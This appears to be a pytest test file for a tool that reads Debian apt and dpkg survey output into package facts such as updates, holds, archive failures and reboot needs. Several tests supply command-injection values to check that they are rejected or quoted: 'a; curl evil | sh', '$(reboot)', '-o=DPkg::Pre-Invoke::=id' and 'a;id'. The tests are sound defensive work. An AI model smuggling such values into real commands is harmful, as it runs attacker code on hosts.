"""What the survey of a Debian host says, read into PackageFacts; the surveys are of a real Debian."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest

from runner.jobs.packages import outdated as host_outdated
from runner.jobs.packages.debian import apt, fixes
from runner.jobs.packages.debian import facts as packages_apt
from runner.jobs.packages.debian import survey as apt_survey
from runner.jobs.packages.debian.apt import Alternative
from runner.jobs.packages.debian.family import Debian
from runner.model.facts import Facts, HostFacts, Reading
from runner.model.packages import PackageFacts
from runner.model.site import Host

CAPTURES = Path(__file__).parents[1] / "captures" / "apt"
HOST = Host(name="server", address="192.168.199.2", packages="apt", hold=("linux-image-*", "libc-demo"))
SURVEY, OUTDATED = (probe.id for probe in packages_apt.probes(HOST))
PATTERNS = Debian.need_reboot


def survey(name: str, *changes: tuple[str, str]) -> str:
    text = (CAPTURES / f"survey-{name}.txt").read_text()
    for old, new in changes:
        assert old in text
        text = text.replace(old, new)
    return text


def facts(text: str | None, outdated: str = "", err: str = "") -> Facts:
    readings = {OUTDATED: Reading(exit=0, out=outdated)}
    if text is not None:
        readings[SURVEY] = Reading(exit=0 if text else None, out=text, err=err)
    hosts = {HOST.name: HostFacts(name=HOST.name, readings=readings)}
    return Facts(at=datetime(2026, 11, 23, tzinfo=UTC), hosts=hosts)


def read(text: str | None, err: str = "") -> PackageFacts:
    return packages_apt.read(HOST, facts(text, err=err))


def read_all(text: str, outdated: str) -> PackageFacts:
    known = facts(text, outdated)
    return host_outdated.completed(packages_apt.read(HOST, known), HOST, known, PATTERNS)


def test_what_can_be_installed_and_what_holds_keep_back() -> None:
    known = read(survey("first-run"))
    assert known.fresh
    assert [(update.name, update.old, update.new, update.security) for update in known.updates] == [
        ("demo-extra", "", "1.0", True), ("demo-feature", "1.0", "1.1", False), ("demo-lib", "1.0", "1.1", True),
    ]  # fmt: skip
    assert {held.update.name: held.by for held in known.held} == {
        "libc-demo": (), "demo-app": ("libc-demo",), "linux-image-demo": (),
        "linux-image-9.9.10-demo": ("linux-image-demo",),
    }  # fmt: skip


def test_a_hold_counts_when_every_program_that_keeps_holds_has_it() -> None:
    names = ("libc-demo", "linux-image-9.9.9-demo", "linux-image-demo")
    first = read(survey("first-run"))
    assert (first.holds, first.unheld, first.stray) == ((), names, ()), "aptitude's first run would let go"
    without = read(survey("first-run", ("# aptitude 2", "# aptitude 127")))
    assert (without.holds, without.unheld) == (("libc-demo",), names[1:])
    drifted = read(survey("drifted"))
    assert drifted.holds == ("demo-feature", *names[1:])
    assert (drifted.unheld, drifted.stray) == (("libc-demo",), ("demo-feature",))
    assert "demo-feature" in {held.update.name for held in drifted.held}, "a hold that nobody declared is kept"


def test_lists_that_could_not_be_fetched_are_not_fresh() -> None:
    known = read(survey("unreachable"))
    assert not known.fresh
    assert [trouble.what for trouble in known.troubles] == ["unreachable"]


def less(text: str, *gone: str, some: int = 0) -> str:
    """A survey of when the archives `gone` did not answer, the first of them with a reason."""
    reason = "!E: Failed to fetch http://dead.example.org/dists/x/InRelease  Unable to connect\n"
    lines = "".join(f" {name}\n" for name in gone)
    return text.replace("# refresh 0\n", "# refresh 100\n").replace(
        "# arch 0", f"{reason}# partly {some}\n{lines}# arch 0"
    )


def test_where_some_archives_answered_the_others_are_named_and_what_is_known_is_known() -> None:
    known = read(less(survey("first-run"), "http://dead.example.org x", "http://b y\x1b"))
    whole = read(survey("first-run"))
    assert (known.fresh, known.partly, whole.partly) == (False, True, False)
    assert (known.updates, known.held) == (whole.updates, whole.held)
    (only,) = known.troubles
    assert only.what == "unreachable"
    assert only.text.startswith(
        "no package lists of http://dead.example.org x, http://b y\\x1b, so nothing new is known from there: an archive "
        "of packages cannot be reached: "
    )
    assert only.do.endswith("if that archive is gone for good, take it out of /etc/apt/sources.list and sources.list.d")
    many = read(less(survey("first-run"), *(f"http://a{number} x" for number in range(7))))
    assert "http://a4 x and 2 more, so" in many.troubles[0].text


def test_where_no_archive_answered_the_lists_are_the_old_ones() -> None:
    known = read(less(survey("first-run"), "http://dead.example.org x", some=1))
    assert (known.fresh, known.partly) == (False, False)
    assert known.troubles[0].text.startswith("an archive of packages cannot be reached: ")


def test_what_an_archive_that_did_not_answer_may_be_to_blame_for_is_told_with_it() -> None:
    known = read(less(survey("drifted"), "http://dead.example.org x"))
    (only,) = known.troubles
    assert only.text.endswith("; perhaps for that reason these are not upgraded: demo-stuck")
    back = (" Inst demo-lib [1.0] (1.1", " Inst demo-lib [1.2] (1.1")
    assert any("would go back" in trouble.text for trouble in read(survey("first-run", back)).troubles)
    less_known = read(less(survey("first-run", back), "http://dead.example.org x"))
    assert len(less_known.troubles) == 1
    assert "demo-lib" not in {update.name for update in less_known.updates}
    assert read(survey("first-run", ("# full 0", "# full 0\n Remv demo-old [1.0]"))).removals == ("demo-old",)
    removes = survey("first-run", ("# full 0", "# full 0\n Remv demo-old [1.0]"))
    assert read(less(removes, "http://dead.example.org x")).removals == ()


def test_a_mirror_that_never_answers_is_unreachable() -> None:
    text = survey("drifted", ("# refresh 0", "# refresh 124"))
    assert [trouble.what for trouble in read(text).troubles][0] == "unreachable"


@pytest.mark.parametrize("text", [None, "", "# refresh 0\n", survey("drifted")[:-30]])
def test_without_a_whole_answer_nothing_is_claimed(text: str | None) -> None:
    known = read(text, err="no answer within 600 s")
    assert (known.fresh, known.updates, known.holds) == (False, (), ())
    assert [trouble.what for trouble in known.troubles] == ["unknown"]


@pytest.mark.parametrize(
    ("audit", "why"),
    [
        ("# audit 0\n The following packages\n are missing the list:\n  demo-lib             demo\n", "demo-lib"),
        ("# audit 2\n!dpkg: error: cannot\n", "dpkg: error: cannot"),
        ("# audit 2\n", "it ended with 2"),
    ],
)
def test_nothing_is_fine_while_dpkg_audit_says_otherwise(audit: str, why: str) -> None:
    only, _ = read(survey("first-run", ("# audit 0\n", audit))).troubles
    assert (only.what, only.text) == ("half", f"dpkg --audit says that packages are not whole: {why}")


def test_what_is_seen_to_be_half_installed_is_not_told_twice_because_of_dpkg_audit() -> None:
    table = ("# table 0\n", "# table 0\n demo-lib|amd64|1.1|install|half-configured|ok|\n")
    only, _ = read(survey("first-run", table, ("# audit 0\n", "# audit 0\n  demo-lib\n"))).troubles
    assert (only.what, only.package) == ("half", "demo-lib")


def test_a_simulation_that_failed_is_told() -> None:
    known = read(survey("drifted", ("# free 0", "# free 100")))
    assert any("not fully known (free)" in trouble.text for trouble in known.troubles)


def test_what_is_said_cannot_be_taken_for_the_next_answer() -> None:
    text = survey("drifted", ("# audit 0", "# audit 0\n # refresh 100\n!# held 0\n # end 0"))
    answers = apt_survey.parse(text)
    assert answers["audit"][0].out == ("# refresh 100", "# end 0")
    assert len(answers["refresh"]) == len(answers["held"]) == 1


@pytest.mark.parametrize(
    ("old", "new", "kinds"),
    [
        ("# updates 0", "# updates 0\n 0000", ["interrupted"]),
        ("|install|installed|ok|", "|install|unpacked|ok|", ["interrupted"]),
        ("|install|installed|ok|", "|install|triggers-pending|ok|", ["interrupted"]),
        ("|install|installed|ok|", "|install|half-configured|ok|", ["half"]),
        ("|install|installed|ok|", "|install|half-installed|reinstreq|", ["half"]),
        ("# locks 0", "# locks 0\n 77|/var/lib/dpkg/lock-frontend|apt-get upgrade", ["lock"]),
        ("# locks 0", "# locks 0\n 77|/var/lib/apt/lists/lock|apt-get update", []),
        ("# check 0", "# check 100\n  app : Depends: lib", ["broken"]),
        ("/boot|4096|3083391|", "/boot|4096|10|", []),
        ("# initrds 0", "# initrds 0\n 90000000000000", ["boot full"]),
        ("/usr|4096|3083391|", "/usr|4096|10|", ["disk full"]),
        ("/usr|4096|3083391|3085511|3085398", "/usr|4096|3083391|3085511|0", ["disk full"]),
        ("/usr|4096|3083391|3085511|3085398", "/usr|4096|3083391|0|0", []),
    ],
)
def test_each_trouble_has_its_evidence(old: str, new: str, kinds: list[str]) -> None:
    known = read(survey("drifted", (old, new)))
    assert [trouble.what for trouble in known.troubles if "demo-stuck" not in trouble.text] == kinds
    assert [trouble.mends for trouble in known.troubles if trouble.what == "interrupted"] == [True] * kinds.count(
        "interrupted"
    )


def test_a_package_that_was_cut_off_half_configured_is_mended_with_the_rest() -> None:
    half = ("|install|installed|ok|", "|install|half-configured|ok|")
    known = read(survey("drifted", ("# updates 0", "# updates 0\n 0000"), half))
    (only,) = (trouble for trouble in known.troubles if "demo-stuck" not in trouble.text)
    assert (only.what, only.mends) == ("interrupted", True)
    assert only.text.startswith("dpkg was interrupted; 1 package waiting to be configured: ")


def test_while_somebody_is_at_work_nothing_looks_interrupted() -> None:
    lock = ("# locks 0", "# locks 0\n 77|/var/lib/dpkg/lock|dpkg \x1b[1m--unpack")
    known = read(survey("drifted", ("# updates 0", "# updates 0\n 0000"), lock))
    assert [trouble.what for trouble in known.troubles if "demo-stuck" not in trouble.text] == ["lock"]
    assert known.troubles[0].text.startswith("process 77 (dpkg \\x1b[1m--unpack) is at work")


def test_kernel_services_and_reasons_for_a_reboot_come_from_the_host() -> None:
    kernel = {"running": "6.1.0-50-amd64", "newest": "6.1.0-56-amd64"}
    outdated = json.dumps({"kernel": kernel, "services": ["ssh.service"], "needrestart": {"ksta": 3}, "flag": True})
    known = read_all(survey("drifted"), outdated)
    assert (known.running, known.newest) == ("6.1.0-50-amd64", "6.1.0-56-amd64")
    assert known.services == ("ssh.service",)
    assert len(known.reboot) == 3


@pytest.mark.parametrize("answer", ["", "no json", "{}", '{"error": "no room"}', '{"kernel": 1}'])
def test_what_cannot_be_read_of_the_host_is_not_known_and_never_nothing(answer: str) -> None:
    known = read_all(survey("drifted"), answer)
    assert known.reboot == ()
    trouble = known.troubles[-1]
    assert trouble.what == "unknown"
    assert trouble.text.startswith("whether server needs a reboot, and what runs replaced files there, is not known: ")
    assert "runner-agent outdated" in trouble.do


def test_the_script_has_no_pattern_in_its_text_and_takes_none_that_no_name_fits() -> None:
    hostile = replace(HOST, hold=("linux-image-*", "$(reboot)", "a b", "x\n Pin-Priority: 1001", "-o"))
    argv = packages_apt.probes(hostile)[0].argv
    assert argv[:2] == ("sh", "-c")
    assert argv[2] == packages_apt.probes(HOST)[0].argv[2]
    assert argv[4:] == ("linux-image-*",)


def test_the_lines_of_a_simulation_are_read_as_debian_12_and_13_and_a_german_print_them() -> None:
    names = ("upg-apt-get-qq-s-dist-upgrade", "trixie-held-apt-get-s", "locale-de-apt-get-s")
    for name in names:
        updates = apt.simulated((CAPTURES / f"{name}.stdout").read_text().splitlines())
        assert {update.name for update in updates} >= {"demo-lib", "demo-app", "demo-feature"}, name
        assert all(update.arch == "amd64" and (update.old, update.new) == ("1.0", "1.1") for update in updates)
        assert {update.name for update in updates if not update.security} == {"demo-feature"}
    lines = (CAPTURES / "newdep-apt-get-s-dist-upgrade.stdout").read_text().splitlines()
    assert apt.removed(lines) == ("demo-feature",)
    assert [update.old for update in apt.simulated(lines) if update.name == "demo-extra"] == [""]


@pytest.mark.parametrize(
    ("line", "origin", "security"),
    [
        ("Inst libc6 [2.36-9+deb12u9] (2.36-9+deb12u10 Debian-Security:12/stable-security [amd64])",
         "Debian-Security:12/stable-security", True),
        ("Inst libc6:i386 [1] (2 Debian:12.5/stable, Debian-Security:12/stable-security [i386]) [libc6:amd64 ]",
         "Debian:12.5/stable, Debian-Security:12/stable-security", True),
        ("Inst openssh-security-tools [1] (2 Some Vendor:stable [all])", "Some Vendor:stable", False),
        ("Inst x (1:2~3 Ubuntu:22.04/jammy-security [amd64]) []", "Ubuntu:22.04/jammy-security", True),
        ("Inst y [1] (2 [amd64])", "", False),
    ],
)  # fmt: skip
def test_security_is_told_by_where_it_comes_from_and_never_by_a_name(line: str, origin: str, security: bool) -> None:
    (update,) = apt.simulated([line])
    assert (update.origin, update.security) == (origin, security)


@pytest.mark.parametrize(
    ("archive", "whether"),
    [
        ("Debian-Security|oldstable|buster|/x", True), ("Ubuntu|jammy-security|jammy|/x", True),
        ("Vendor||one-SECURITY|/x", True), ("Vendor|stable|stable|/nice-security", False), ("", False),
    ],
)  # fmt: skip
def test_an_archive_for_security_is_known_by_label_suite_or_codename_and_by_no_address(
    archive: str, whether: bool
) -> None:
    assert fixes.is_there(["Debian|stable|bookworm|/y", archive]) == whether
    text = survey("first-run", ("# arch 0\n", f"# archives 0\n {archive}\n# arch 0\n"))
    assert read(text).for_security == whether
    assert read(survey("first-run")).for_security, "where it was not asked nothing is said"


def test_a_security_update_that_apt_does_not_take_is_told_with_what_hides_it() -> None:
    rows = ["b|1|2", "a|1|1.5", "a|1|2", "old|3|2", "c:i386|1|2", "e|1|2", "f|1|2", "odd"]
    known = fixes.parse(rows)
    assert known.brings("a", "1", "1.5")
    assert not known.brings("a", "1.5", "1.7")
    missed = known.missed({"f": "2", "b": "1.5"})
    assert missed == {"a": "2", "b": "2", "c:i386": "2", "e": "2"}
    hides = ["|a|1", "|b|1", "|c:i386|1", "|e|2", "*|a|2", "*|b|2", "*|c:i386|1", "/p:1|a|2", "/p:1|b|1", "/q|x:9|b|1"]
    texts = {trouble.text: trouble.what for trouble in fixes.hidden(missed, hides, partly=False)}
    assert texts == {
        "hidden by /p:1, so not installed although a security archive has it: a 2": "hidden",
        "hidden by /p:1, /q|x:9, so not installed although a security archive has it: b 2": "hidden",
        "hidden by a setting of apt that was not found, so not installed although a security archive has it: "
        "c:i386 2": "hidden",
        "kept back by apt without a reason, although a security archive has it: e 2": "unknown",
    }
    less = fixes.hidden({"e": "2", "g": "2"}, hides, partly=True)
    assert list(less) == [], "what is away may be why"
    many = fixes.hidden({f"p{number}": "2" for number in range(12)}, [], partly=False)
    assert next(many).text.endswith("p9 2 and 2 more")


def test_apt_that_knows_no_archive_is_never_up_to_date() -> None:
    known = read(survey("first-run", ("# arch 0\n", "# archives 0\n# arch 0\n")))
    assert (known.fresh, [trouble.what for trouble in known.troubles]) == (True, ["moved", "unknown"])


def test_lines_that_are_no_answer_are_passed_over() -> None:
    assert apt.simulated(["Inst", "Conf x (1)", "Inst x", "inst x (1)", "Inst x 1", ""]) == ()
    assert apt.parse_table(["a|b", "x|amd64|1|deinstall|config-files|ok|"], "amd64") == ()


def test_a_dependency_field_is_read() -> None:
    assert apt.clauses("libc6 (>= 2.36), a:any | b (<< 2:1.0~) [amd64], c") == (
        (Alternative("libc6", ">=", "2.36"),), (Alternative("a"), Alternative("b", "<<", "2:1.0~")), (Alternative("c"),),
    )  # fmt: skip
    assert apt.clauses(", ") == ()


def test_a_package_that_a_host_made_up_is_one_word_of_the_command() -> None:
    text = survey(
        "first-run", ("\n demo-stuck\n", "\n a; curl evil | sh\n"), ("!E: Unable to", "!E: remove is disabled")
    )
    (only,) = [trouble for trouble in read(text).troubles if "curl" in trouble.text]
    assert "apt-get -s install 'a; curl evil | sh' names them" in only.do


@pytest.mark.parametrize("name", ["--purge", "-o=DPkg::Pre-Invoke::=id", "a;id", "a/../b", "", "é", "a\x1b[2J", "_x"])
def test_what_dpkg_would_not_take_for_a_package_is_none(name: str) -> None:
    """These go into the command line of apt-get."""
    assert apt.simulated([f"Inst {name} [1.0] (1.1 Debian-Security:13/stable-security [amd64])"]) == ()
    assert apt.removed([f"Remv {name} [1.0]"]) == ()
    assert apt.parse_table([f"{name}|amd64|1.0|install|installed|ok|"], "amd64") == ()
    # And these into what a person is told to type.
    assert fixes.parse([f"{name}|1.0|1.1", f"a|{name}|1.1", f"a|1.0|{name}"]).versions == {}
    (update,) = apt.simulated(["Inst libstdc++6:i386 [1:1.0~rc1-2] (1:1.0+dfsg-1_x Debian:13/stable [i386])"])
    assert (update.name, update.old, update.new) == ("libstdc++6:i386", "1:1.0~rc1-2", "1:1.0+dfsg-1_x")
